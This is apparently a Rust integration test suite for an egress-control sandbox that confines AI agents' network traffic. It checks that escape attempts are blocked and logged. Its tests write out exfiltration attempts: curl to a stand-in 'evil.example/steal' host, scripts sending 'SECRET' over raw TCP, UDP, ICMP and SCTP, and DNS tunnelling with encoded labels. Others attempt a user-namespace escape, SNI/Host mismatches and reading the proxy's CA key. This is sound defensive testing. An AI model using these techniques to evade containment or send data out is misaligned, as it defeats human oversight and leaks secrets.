//! Ways out that an agent may try.

use std::sync::{Arc, Mutex};

use tokio::net::{TcpListener, UdpSocket};

use super::{API, ELSEWHERE, ELSEWHERE_V6, Internet, pod};
use crate::support::pod::{POD, at};
use crate::support::{Dns, script};

#[tokio::test(flavor = "current_thread")]
async fn an_agent_that_knows_no_proxy_is_governed() {
    let pod = pod().start().await;
    let internet = Internet::start().await;

    let allowed = pod.curl(&["https://api.example.com/v1/models"]).await;
    assert!(allowed.stdout.ends_with("\n200"), "{allowed:?}");
    let seen = internet.api.wait_for(1).await;
    assert_eq!((&*seen[0].path, seen[0].sni.as_deref()), ("/v1/models", Some("api.example.com")));
    let plain = pod.curl(&["http://plain.example.com/x"]).await;
    assert!(plain.stdout.ends_with("\n200"), "{plain:?}");
    internet.plain.wait_for(1).await;

    let path = pod.curl(&["https://api.example.com/v2"]).await;
    assert!(path.stdout.ends_with("\n403") && path.stdout.contains("route_not_allowed"), "{path:?}");
    internet.assert_nothing_elsewhere();

    let record = pod.record("the request", |record| record["path"] == "/v1/models").await;
    assert_eq!((record["agent"].as_str(), record["identity"].as_str()), (Some("default"), Some("fixed")), "{record}");
    let destination = record["destination"].as_str().unwrap();
    assert!(destination.starts_with("198.1") && destination.ends_with(":443"), "{record}");
    assert!(record["source"].as_str().unwrap().starts_with(&format!("{}:", POD[0])), "{record}");
    assert_eq!(record["upstream"], format!("{API}:443"), "{record}");
}

#[tokio::test(flavor = "current_thread")]
async fn python_and_node_work_as_they_are() {
    let pod = pod().start().await;
    let internet = Internet::start().await;
    let python = "
import urllib.request
print(urllib.request.urlopen('https://api.example.com/v1/python').status)
";
    let output = pod.python(python).await;
    assert_eq!(output.stdout, "200\n", "{output:?}");
    // Any Node: nothing has to tell it of a proxy.
    let node = "
const answer = await fetch('https://api.example.com/v1/node');
const refused = await fetch('https://api.example.com/v2');
console.log(answer.status, refused.status, (await refused.json()).reason);
";
    let output = pod
        .agent([
            pod.program(&script::node("")[0]).await.as_os_str(),
            "--input-type=module".as_ref(),
            "-e".as_ref(),
            node.as_ref(),
        ])
        .await;
    assert_eq!(output.stdout, "200 403 route_not_allowed\n", "{output:?}");
    let seen: Vec<_> = internet.api.wait_for(2).await.into_iter().map(|seen| seen.path).collect();
    assert_eq!(seen, ["/v1/python", "/v1/node"]);
}

/// The host is what TLS name and authority say; the address decides nothing.
#[tokio::test(flavor = "current_thread")]
async fn the_address_that_is_dialled_decides_nothing() {
    let pod = pod().start().await;
    let internet = Internet::start().await;
    for (number, address) in
        [ELSEWHERE, "192.0.2.1", &format!("[{ELSEWHERE_V6}]"), "169.254.169.254", "10.0.0.1"].into_iter().enumerate()
    {
        let to = format!("api.example.com:443:{address}");
        let answer = pod.curl(&["--resolve", &to, &format!("https://api.example.com/v1/{number}")]).await;
        assert!(answer.stdout.ends_with("\n200"), "{address}: {answer:?}");
        let to = format!("plain.example.com:80:{address}");
        let answer = pod.curl(&["--resolve", &to, &format!("http://plain.example.com/{number}")]).await;
        assert!(answer.stdout.ends_with("\n200"), "{address}: {answer:?}");
    }
    assert_eq!(internet.api.wait_for(5).await.len(), 5);
    assert_eq!(internet.plain.wait_for(5).await.len(), 5);
    internet.assert_nothing_elsewhere();
    let v6 = format!("[{ELSEWHERE_V6}]:443");
    pod.record("the one over IPv6", |record| record["destination"] == v6 && record["decision"] == "allow").await;
}

#[tokio::test(flavor = "current_thread")]
async fn a_name_that_is_refused_is_told_so_and_on_record_with_where_it_went() {
    let pod = pod().start().await;
    let internet = Internet::start().await;
    // By its address, since its name is not there to be looked up.
    for (scheme, port) in [("https", 443), ("http", 80)] {
        for address in [ELSEWHERE, &format!("[{ELSEWHERE_V6}]")] {
            let to = format!("evil.example:{port}:{address}");
            let refused = pod.curl(&["--resolve", &to, &format!("{scheme}://evil.example/steal?key=1")]).await;
            assert!(refused.stdout.ends_with("\n403") && refused.stdout.contains("domain_not_allowed"), "{refused:?}");
            let dialled = format!("{address}:{port}");
            let record = pod.record("the refusal", |record| record["destination"] == dialled).await;
            assert_eq!((record["host"].as_str(), record["agent"].as_str()), (Some("evil.example"), Some("default")));
            assert_eq!(record["path"], "/steal", "{record}");
        }
    }
    // Without a name there is nothing to be told by: an alert, and the record of it.
    let refused = pod.curl(&["--insecure", &format!("https://{ELSEWHERE}/")]).await;
    assert_eq!(refused.exit, 35, "{refused:?}");
    let dialled = format!("{ELSEWHERE}:443");
    let nameless =
        pod.record("the handshake", |record| record["method"] == "TLS" && record["destination"] == dialled).await;
    assert_eq!(
        (nameless["reason"].as_str(), nameless["agent"].as_str()),
        (Some("certificate_refused"), Some("default"))
    );
    internet.assert_nothing_elsewhere();
}

/// As many refused names as an agent can think of get no certificate each.
#[tokio::test(flavor = "current_thread")]
async fn certificates_for_refused_names_are_few_and_the_rest_is_on_record() {
    let pod = pod().env("ATTACHE_DENIED_CERTIFICATES", "3").start().await;
    let internet = Internet::start().await;
    let program = format!(
        "
import ssl, socket
context = ssl._create_unverified_context()
told = alerts = 0
for n in range(12):
    try:
        with context.wrap_socket(socket.create_connection(('{ELSEWHERE}', 443)), server_hostname=f'n{{n}}.evil.example') as s:
            s.sendall(f'GET / HTTP/1.1\\r\\nHost: n{{n}}.evil.example\\r\\nConnection: close\\r\\n\\r\\n'.encode())
            told += b' 403 ' in s.recv(4096)
    except ssl.SSLError:
        alerts += 1
print(told, alerts)
"
    );
    let output = pod.python(&program).await;
    assert_eq!(output.stdout, "3 9\n", "{output:?}");
    let of = |number: usize| format!("n{number}.evil.example");
    for number in 0..12 {
        let record = pod.record(&of(number), |record| record["host"] == of(number)).await;
        assert_eq!(record["decision"], "deny", "{record}");
        assert_eq!(
            (record["destination"].as_str(), record["agent"].as_str()),
            (Some(&*format!("{ELSEWHERE}:443")), Some("default")),
            "{record}"
        );
    }
    internet.assert_nothing_elsewhere();
}

#[tokio::test(flavor = "current_thread")]
async fn names_that_do_not_agree_lead_nowhere() {
    let pod = pod().start().await;
    let internet = Internet::start().await;
    // TLS to one, the request for another; and the other way about.
    for (sni, host) in [
        ("api.example.com", "evil.example"),
        ("evil.example", "api.example.com"),
        ("a.wild.example.com", "api.example.com"),
    ] {
        let to = format!("{sni}:443:{ELSEWHERE}");
        let header = format!("Host: {host}");
        for protocol in ["--http1.1", "--http2"] {
            let answer =
                pod.curl(&[protocol, "--resolve", &to, "--header", &header, &format!("https://{sni}/v1/x")]).await;
            assert!(answer.stdout.ends_with("\n421"), "{sni} {host} {protocol}: {answer:?}");
        }
    }
    // Plain HTTP for a host that is allowed over TLS only is sent over TLS, and for another one nowhere.
    let to = format!("api.example.com:80:{ELSEWHERE}");
    let answer = pod.curl(&["--resolve", &to, "http://api.example.com/v1/upgraded"]).await;
    assert!(answer.stdout.ends_with("\n200"), "{answer:?}");
    assert_eq!(internet.api.wait_for(1).await[0].path, "/v1/upgraded");
    let answer = pod.curl(&["--header", "Host: evil.example", "--resolve", &to, "http://api.example.com/v1/x"]).await;
    assert!(answer.stdout.ends_with("\n403"), "{answer:?}");
    // The address of another port in the authority is a matter of policy, not of the port that was dialled.
    let answer =
        pod.curl(&["--header", "Host: api.example.com:22", "--resolve", &to, "http://api.example.com/v1/x"]).await;
    assert!(answer.stdout.ends_with("\n403"), "{answer:?}");
    internet.assert_nothing_elsewhere();
}

/// What is no HTTP over TCP 80 and 443, each with somebody who listens for it.
#[tokio::test(flavor = "current_thread")]
async fn every_other_way_is_closed() {
    let pod = pod().address("169.254.169.254").start().await;
    let internet = Internet::start().await;
    let heard = Heard::default();
    for (address, ports) in [(ELSEWHERE, &[22, 53, 853, 8080, 8443, 5432][..]), (ELSEWHERE_V6, &[22, 853, 8443][..])] {
        for port in ports {
            heard.over_tcp(address, *port).await;
        }
        for port in [53, 123, 443, 51820] {
            heard.over_udp(address, port).await;
        }
    }
    heard.over_tcp("169.254.169.254", 80).await;
    let elsewhere = [ELSEWHERE, ELSEWHERE_V6];
    let program = format!(
        "
import errno, socket, subprocess
def tcp(address, port):
    try:
        with socket.create_connection((address, port), 3) as s:
            s.sendall(b'SECRET over tcp\\r\\n\\r\\n')
            s.settimeout(3)
            try: return 'answered' if s.recv(100) else 'ended'
            except OSError: return 'silent'
    except OSError as error:
        return errno.errorcode.get(error.errno, str(error))
def udp(address, port):
    with socket.socket(socket.AF_INET6 if ':' in address else socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(1)
        try:
            s.sendto(b'SECRET over udp', (address, port))
            s.recv(100)
            return 'answered'
        except OSError as error:
            return errno.errorcode.get(error.errno, 'silent')
for address in {elsewhere:?}:
    for port in [22, 853, 8080, 8443, 5432]:
        print('tcp', address, port, tcp(address, port))
    for port in [123, 443, 51820]:
        print('udp', address, port, udp(address, port))
for address in ['169.254.169.254', '{ELSEWHERE}']:
    print('http', address, tcp(address, 80), tcp(address, 443))
for kind in [(socket.AF_INET, socket.SOCK_RAW, 1), (socket.AF_PACKET, socket.SOCK_RAW, 3), (socket.AF_INET, socket.SOCK_DGRAM, 1)]:
    try:
        with socket.socket(*kind) as s: s.sendto(b'\\x08\\x00\\xf7\\xff\\x00\\x00\\x00\\x00', ('{ELSEWHERE}', 0)); print('raw', kind, 'sent')
    except OSError as error: print('raw', kind, 'refused')
print('sctp', end=' ')
try: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132).connect(('{ELSEWHERE}', 80)); print('connected')
except OSError: print('refused')
"
    );
    let output = pod.python(&program).await;
    assert_eq!(output.exit, 0, "{output:?}");
    for line in output.stdout.lines() {
        let open = ["answered", "connected", "sent"].iter().any(|word| line.ends_with(word));
        // Plain text on 80 and 443 is answered by Envoy itself: 400.
        assert!(!open || line.starts_with("http"), "{line}\n{}", output.stdout);
        // At once, so that QUIC falls back and nobody waits.
        assert!(!line.starts_with("tcp") || line.ends_with("ECONNREFUSED"), "{line}");
    }
    assert_eq!(output.stdout.lines().count(), 2 * (5 + 3) + 2 + 3 + 1, "{}", output.stdout);
    // In a user namespace of its own it is root, and to the kernel no other than before.
    let escape = "import os,socket\nsocket.create_connection(('93.184.216.99', 22), 3).sendall(b'SECRET as root')";
    let output = pod.agent(["unshare", "--user", "--map-root-user", "python3", "-c", escape]).await;
    assert_ne!(output.exit, 0, "{output:?}");
    assert_eq!(heard.all(), Vec::<String>::new());
    internet.assert_nothing_elsewhere();
    // Those who listen would have heard: it is the redirect that stops it.
    let removed = pod.nft("delete table inet attache").await;
    assert_eq!(removed.exit, 0, "{removed:?}");
    pod.python(&program).await;
    let all = heard.all();
    for expected in [
        format!("tcp {ELSEWHERE}:22"),
        format!("udp {ELSEWHERE}:443"),
        format!("udp [{ELSEWHERE_V6}]:443"),
        "tcp 169.254.169.254:80".into(),
    ] {
        assert!(all.contains(&expected), "{expected}: {all:?}");
    }
    assert!(!internet.evil.connections().is_empty() && !internet.evil_plain.connections().is_empty());
}

#[tokio::test(flavor = "current_thread")]
async fn dns_is_no_way_out() {
    let pod = pod().start().await;
    let _internet = Internet::start().await;
    let elsewhere = Dns::on(at(ELSEWHERE, 53)).await;
    elsewhere.answer("x.evil.example", ["192.0.2.1"]);
    for (server, name, kind) in [
        // The cluster's own resolver, which would ask the owner of the domain.
        ("10.96.0.10", "c2VjcmV0.evil.example", "TXT"),
        ("10.96.0.10", "c2VjcmV0.evil.example", "A"),
        (ELSEWHERE, "x.evil.example", "A"),
        ("192.0.2.53", "x.evil.example", "NULL"),
        ("127.0.0.53", "x.evil.example", "A"),
    ] {
        for way in ["+notcp", "+tcp"] {
            let server = format!("@{server}");
            let output = pod.agent(["dig", "+tries=1", "+time=3", way, &server, name, kind]).await;
            assert!(output.stdout.contains("status: NXDOMAIN"), "{server} {name} {way}: {output:?}");
        }
    }
    for name in ["c2vjcmv0.evil.example", "x.evil.example"] {
        let record = pod.record(name, |record| record["host"] == name && record["method"] == "DNS").await;
        assert_eq!(record["reason"], "domain_not_allowed", "{record}");
    }
    assert!(
        elsewhere.asked().is_empty() && pod.dns.asked().is_empty(),
        "{:?} {:?}",
        elsewhere.asked(),
        pod.dns.asked()
    );
    // A name that policy allows is looked up by attaché, and only when it is called.
    pod.curl(&["https://data.wild.example.com/v1"]).await;
    let asked: Vec<_> = pod.dns.asked().into_iter().map(|asked| asked.name).collect();
    assert!(!asked.is_empty() && asked.iter().all(|name| name == "data.wild.example.com"), "{asked:?}");
}

#[tokio::test(flavor = "current_thread")]
async fn the_doors_of_envoy_and_attache_are_no_other_way() {
    let pod = pod().start().await;
    let internet = Internet::start().await;
    // CONNECT is governed as ever.
    let proxied = |url: &'static str| ["--proxy", "http://127.0.0.1:10080", url];
    let allowed = pod.curl(&proxied("https://api.example.com/v1/connect")).await;
    assert!(allowed.stdout.ends_with("\n200"), "{allowed:?}");
    let both = pod.curl(&["https://api.example.com/v1/direct"]).await;
    assert!(both.stdout.ends_with("\n200"), "the same name by both ways: {both:?}");
    let refused = pod.curl(&proxied("https://evil.example/")).await;
    assert!(refused.stderr.contains("403"), "{refused:?}");
    let program = "
import errno, os, socket
for address, port in [('127.0.0.1', 10443), ('::1', 10443), ('127.0.0.1', 15053), ('127.0.0.1', 9464), ('10.244.1.7', 9464), ('10.244.1.7', 10443), ('10.244.1.7', 10080)]:
    try:
        socket.create_connection((address, port), 3).close()
        print(address, port, 'open')
    except OSError as error:
        print(address, port, errno.errorcode.get(error.errno, 'timeout'))
for name in ['service.sock', 'admin.sock', '../../var/lib/attache/control.sock']:
    try:
        socket.socket(socket.AF_UNIX).connect(os.path.join(RUN, name))
        print(name, 'open')
    except OSError as error:
        print(name, errno.errorcode[error.errno])
for file in ['attache-ca/ca.key', 'attache/envoy-access.jsonl']:
    try: print(file, open(os.path.join(RUN, '..', file)).read()[:20])
    except OSError as error: print(file, errno.errorcode[error.errno])
";
    let run = format!("RUN = {:?}\n{program}", pod.file("/run/attache"));
    let output = pod.python(&run).await;
    assert_eq!((output.exit, output.stdout.lines().count()), (0, 12), "{output:?}");
    assert!(!output.stdout.contains("open"), "{output:?}");
    assert!(output.stdout.contains("service.sock EACCES") && output.stdout.contains("ca.key EACCES"), "{output:?}");
    internet.assert_nothing_elsewhere();
}

#[tokio::test(flavor = "current_thread")]
async fn nothing_comes_in_that_was_not_asked_for() {
    let pod = pod().net("--inbound=8080").start().await;
    let _internet = Internet::start().await;
    let serve = |port: &str| {
        let program =
            format!("import http.server as h; h.test(h.SimpleHTTPRequestHandler, port={port}, bind='0.0.0.0')");
        pod.agent_command(crate::support::pod::AGENT, ["python3", "-c", &program]).kill_on_drop(true).spawn().unwrap()
    };
    let (_open, _closed) = (serve("8080"), serve("8081"));
    let get = async |port: u16| {
        crate::support::curl([format!("http://{}:{port}/", POD[0]), "--max-time".into(), "2".into()]).await.status
    };
    crate::support::until("the agent's own server", async || (get(8080).await == 200).then_some(())).await;
    assert_eq!(get(8081).await, 0);
    assert_eq!(get(10080).await, 0);
    assert_eq!(pod.probe("/livez").await.status, 200);
    // The agent's own servers are its own on loopback, too.
    let own = pod.curl(&["http://127.0.0.1:8081/"]).await;
    assert!(own.stdout.ends_with("\n200"), "{own:?}");
}

#[tokio::test(flavor = "current_thread")]
async fn applied_twice_is_applied_once() {
    let pod = pod().start().await;
    let _internet = Internet::start().await;
    let before = pod.nft("--stateless list ruleset").await.stdout;
    let again = pod.net(&[]).await;
    assert_eq!(again.exit, 0, "{again:?}");
    assert_eq!(pod.nft("--stateless list ruleset").await.stdout, before);
    assert!(before.contains("table inet attache"), "{before}");
    let allowed = pod.curl(&["https://api.example.com/v1/x"]).await;
    assert!(allowed.stdout.ends_with("\n200"), "{allowed:?}");
}

/// What has arrived somewhere on the internet.
#[derive(Default, Clone)]
struct Heard(Arc<Mutex<Vec<String>>>);

impl Heard {
    async fn over_tcp(&self, address: &str, port: u16) {
        // Where a server of the test listens already, that one is asked.
        let Ok(listener) = TcpListener::bind(at(address, port)).await else { return };
        let (heard, place) = (self.clone(), at(address, port));
        tokio::spawn(async move {
            while listener.accept().await.is_ok() {
                heard.0.lock().unwrap().push(format!("tcp {place}"));
            }
        });
    }

    async fn over_udp(&self, address: &str, port: u16) {
        let socket = UdpSocket::bind(at(address, port)).await.unwrap();
        let (heard, place) = (self.clone(), at(address, port));
        tokio::spawn(async move {
            while socket.recv(&mut [0; 1500]).await.is_ok() {
                heard.0.lock().unwrap().push(format!("udp {place}"));
            }
        });
    }

    fn all(&self) -> Vec<String> {
        self.0.lock().unwrap().clone()
    }
}
